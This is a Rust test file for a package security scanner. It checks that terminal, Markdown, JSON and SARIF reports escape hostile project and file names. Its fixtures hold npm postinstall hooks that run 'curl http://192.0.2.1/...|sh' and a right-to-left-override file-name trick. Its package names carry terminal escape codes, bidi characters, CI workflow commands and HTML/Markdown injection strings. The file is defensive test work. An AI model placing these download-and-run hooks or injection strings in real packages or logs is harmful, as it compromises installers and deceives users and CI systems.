//! What a project may be called: every output has its own escaping.

use serde_json::json;
use vetch_testkit::{Pkg, Project, Run};

use super::{list, offline, scan};

/// Terminal, bidi, CI command, Markdown and HTML in one.
const NAME: &str = "x\u{1b}[2J\u{1b}]8;;http://h.invalid\u{7}\u{202e}\n::error title=pwn::\n##vso[task.complete]|`</td><img src=x>](http://h.invalid)@everyone";

/// Dangerous under a name of this kind, in code of this kind, in a file of this kind.
fn project() -> Project {
    let code = format!(
        "const cp = require('child_process'); /* \u{1b}[31m \u{202e} <b> ::warning::w */ cp.execSync('curl http://192.0.2.1/{}|sh');\n",
        "\u{2066}"
    );
    let manifest =
        json!({ "name": NAME, "version": "1.0.0\u{1b}[8m\n::error::v", "scripts": { "postinstall": "node setup.js" } });
    let pkg = Pkg::new("placeholder", "1.0.0")
        .file("package.json", serde_json::to_vec(&manifest).unwrap())
        .file("setup.js", code);
    Project::builder(NAME)
        .install(pkg)
        .edit_lockfile(|lock| {
            let packages = lock["packages"].as_object_mut().unwrap();
            let mut entry = packages.shift_remove("node_modules/placeholder").unwrap();
            entry["name"] = json!(NAME);
            entry["resolved"] = json!("http://h.invalid/\u{1b}[2J\n::error::u");
            packages.insert("node_modules/placeholder".to_owned(), entry);
            packages.insert(format!("node_modules/{NAME}"), json!({ "version": NAME, "integrity": NAME }));
        })
        .build()
}

fn report(format: &str) -> Run {
    let run = scan(&project(), &["--offline", "--format", format]).run().expect(1);
    no_command(&run.stderr);
    run
}

/// Neither a terminal nor the log of a CI service takes any of it for a command.
#[track_caller]
fn no_command(text: &str) {
    let control = |c: char| {
        (c.is_control() && c != '\n')
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
    };
    let found: Vec<String> =
        text.lines().filter(|line| line.contains(control)).map(|line| format!("{line:?}")).collect();
    assert!(found.is_empty(), "{found:#?}");
    for line in text.lines().map(str::trim_start) {
        assert!(!line.starts_with("::") && !line.starts_with("##vso") && !line.starts_with("##["), "{line}");
    }
}

#[test]
fn the_terminal_shows_it_and_obeys_nothing() {
    let run = report("terminal");
    no_command(&run.stdout);
    assert!(run.stdout.contains("malicious"), "{}", run.stdout);
    assert!(
        run.stdout.contains("\\u{1b}") || run.stdout.contains("\\x1b") || run.stdout.contains('␛'),
        "{}",
        run.stdout
    );
}

/// A line of Markdown without its code spans: a run of backticks, and what follows up to the next
/// run of the same length. In code nothing is a link, a mention or a tag.
fn outside_code(line: &str) -> String {
    let (mut outside, mut rest) = (String::new(), line);
    while let Some(start) = rest.find('`') {
        let run = rest[start..].bytes().take_while(|byte| *byte == b'`').count();
        let (before, after) = (&rest[..start], &rest[start + run..]);
        outside += before;
        rest = after;
        let mut from = 0;
        while let Some(found) = after[from..].find('`') {
            let length = after[from + found..].bytes().take_while(|byte| *byte == b'`').count();
            from += found + length;
            if length == run {
                rest = &after[from..];
                break;
            }
        }
    }
    outside + rest
}

#[test]
fn markdown_stays_text() {
    let text = report("markdown").stdout;
    let plain: String = text.chars().filter(|c| !"\n".contains(*c)).collect();
    assert!(!plain.chars().any(char::is_control) && !text.contains('\u{202e}'), "{text:?}");
    assert!(!text.contains("<img") && !text.contains("</td>"), "{text}");
    let outside: String = text.lines().map(outside_code).collect();
    assert!(!outside.contains("](http") && !outside.contains('@'), "{outside}");
    assert!(text.lines().all(|line| !line.starts_with("::") && !line.starts_with("##vso")), "{text}");
}

#[test]
fn json_and_sarif_stay_well_formed_and_carry_no_raw_control_characters() {
    for format in ["json", "sarif"] {
        let run = report(format);
        run.json();
        no_command(&run.stdout);
    }
}

#[test]
fn json_keeps_the_name_as_it_is() {
    let run = offline(&project(), &[]).expect(1);
    let report = run.json();
    let purls: Vec<&str> = list(&report["releases"]).iter().map(|release| release["purl"].as_str().unwrap()).collect();
    let safe = |purl: &&str| purl.chars().all(|c| c.is_ascii_graphic()) && purl.starts_with("pkg:");
    assert!(purls.iter().all(safe), "{purls:#?}");
    // The specification of purls has names of npm in lower case.
    assert!(purls.iter().any(|purl| purl.contains("%1B%5B2j")), "{purls:#?}");
    let skipped: Vec<&str> = list(&report["skipped"]).iter().map(|skipped| skipped["what"].as_str().unwrap()).collect();
    assert!(skipped.iter().any(|what| what.ends_with(&format!("@{NAME}"))), "{skipped:#?}");
}

#[test]
fn files_of_hostile_names_are_shown_escaped() {
    let name = "a\u{202e}sj.exe\u{1b}[2J.js";
    let code = "require('child_process').exec('curl http://192.0.2.1/x | sh');\n";
    let pkg = Pkg::new("bad", "1.0.0").script("postinstall", &format!("node '{name}'")).file(name, code);
    let project = Project::builder("demo").install(pkg).build();
    for format in ["terminal", "markdown", "json", "sarif"] {
        let run = scan(&project, &["--offline", "--format", format]).run();
        assert_eq!(run.status, 1, "{format}\n{}\n{}", run.stdout, run.stderr);
        no_command(&run.stdout);
        no_command(&run.stderr);
    }
}
